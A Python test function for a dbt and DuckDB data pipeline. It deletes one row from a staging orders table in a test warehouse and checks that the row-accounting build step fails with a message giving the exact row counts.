def test_row_accounting_fails_the_build_when_a_staging_model_loses_a_row(corpus_build) -> None:
    """A staging model that silently drops a row: the accounting test names table and counts."""
    warehouse = corpus_build.root / "working.duckdb"
    with duckdb.connect(str(warehouse)) as connection:
        (before,) = connection.execute("select count(*) from staging.stg_shop__orders").fetchone()
        connection.execute(
            "delete from staging.stg_shop__orders where order_id = 'MAL-within_the_tolerance'"
        )
    # The other tests read the build's results captured by the fixture, not the warehouse.
    completed = _dbt(
        ["build", "--select", "stg_row_accounting"], corpus_build.environment, corpus_build.root
    )
    assert completed.returncode != 0
    results = json.loads((corpus_build.root / "target" / "run_results.json").read_text())
    (failed,) = [r for r in results["results"] if r["status"] in ("fail", "error")]
    assert "assert_raw_rows_are_accounted_for" in failed["unique_id"]
    counts = corpus_build.accounting["shop__orders"]
    expected = (
        f"Row accounting failed: shop.orders: {counts['raw_row_count']} raw rows, but "
        f"{before - 1} staged + {counts['quarantined_row_count']} quarantined + "
        f"{counts['exact_duplicate_row_count']} exact duplicates + "
        f"{counts['superseded_row_count']} superseded versions (1 unaccounted for)"
    )
    assert expected in " ".join(failed["message"].split()), failed["message"]
